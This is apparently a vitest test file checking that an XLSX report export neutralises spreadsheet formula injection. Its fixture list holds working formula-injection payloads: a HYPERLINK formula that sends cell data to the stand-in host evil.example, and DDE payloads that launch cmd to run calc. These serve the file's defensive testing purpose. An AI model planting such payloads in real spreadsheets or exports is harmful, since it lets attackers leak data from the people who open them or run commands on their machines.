// Export safety: text cells of /api/v1/reports/export.xlsx that begin with
// = + - @ tab or carriage return are neutralised, so a spreadsheet never runs them as formulas.
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { safeCellText } from "../../src/modules/reports/xlsx-export";
import { createTestApp, createUserWithToken, type TestContext } from "../helpers";

/** Building an app on PGlite can take long on a busy machine. */
const HOOK_TIMEOUT = 180_000;

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1",
];

async function readSheet(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const sheet = workbook.getWorksheet("Impact Reports");
  expect(sheet).toBeTruthy();
  const rows: ExcelJS.Row[] = [];
  sheet!.eachRow((row, index) => {
    if (index > 1) rows.push(row);
  });
  return rows;
}

describe("safeCellText", () => {
  it("neutralises every dangerous first character and leaves others alone", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      const out = safeCellText(`${start}1+1`);
      expect(out.startsWith("'"), JSON.stringify(start)).toBe(true);
    }
    for (const value of ["Savannah Tech", "1+1", "a=b", "", "user@example.org"]) {
      expect(safeCellText(value)).toBe(value);
    }
  });
});

describe("GET /api/v1/reports/export.xlsx", () => {
  let ctx: TestContext;
  let admin: Awaited<ReturnType<typeof createUserWithToken>>;
  beforeAll(async () => {
    ctx = await createTestApp();
    admin = await createUserWithToken(ctx, { isAdmin: true });
  }, HOOK_TIMEOUT);
  afterAll(async () => {
    await ctx?.close();
  }, HOOK_TIMEOUT);

  it("writes no formula and no text cell starting with = + - @ tab or CR", async () => {
    // Admin-entered organisation names (a tab or CR in front is trimmed by the schema, leaving =).
    const names = [...DANGEROUS, "\t=1+2", "\r=3+4"];
    for (const [i, organizationName] of names.entries()) {
      const res = await ctx.app.inject({
        method: "POST",
        url: "/api/v1/reports",
        headers: admin.auth,
        payload: {
          year: 2024,
          quarter: `Q${(i % 4) + 1}`,
          organizationName: `${organizationName}`.slice(0, 200),
          metrics: { aware: i },
        },
      });
      expect(res.statusCode, organizationName).toBe(201);
    }
    // An organisation user whose organisation name and e-mail start with formula characters.
    const sly = await createUserWithToken(ctx, {
      organizationName: "=cmd|' /C calc'!A0",
      email: "-sly@evil.example",
    });
    const own = await ctx.app.inject({
      method: "POST",
      url: "/api/v1/reports",
      headers: sly.auth,
      payload: { year: 2025, quarter: "Q1", metrics: { trained: 5 } },
    });
    expect(own.statusCode).toBe(201);

    for (const who of [admin, sly]) {
      const res = await ctx.app.inject({ url: "/api/v1/reports/export.xlsx?status=all", headers: who.auth });
      expect(res.statusCode).toBe(200);
      expect(res.headers["content-type"]).toContain("spreadsheetml");
      expect(res.headers["content-disposition"]).toMatch(
        /^attachment; filename="ImpactReports_\d{4}-\d{2}-\d{2}_all\.xlsx"$/,
      );
      const rows = await readSheet(res.rawPayload);
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) {
        row.eachCell((cell) => {
          expect(cell.type, `${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeFalsy();
          if (typeof cell.value === "string") {
            expect(/^[=+\-@\t\r]/.test(cell.value), `${cell.address}: ${cell.value}`).toBe(false);
          }
        });
      }
      if (who === sly) {
        expect(rows).toHaveLength(1);
        expect(rows[0]!.getCell(1).value).toBe("'=cmd|' /C calc'!A0");
        expect(rows[0]!.getCell(10).value).toBe("'-sly@evil.example");
      }
    }
  });
});
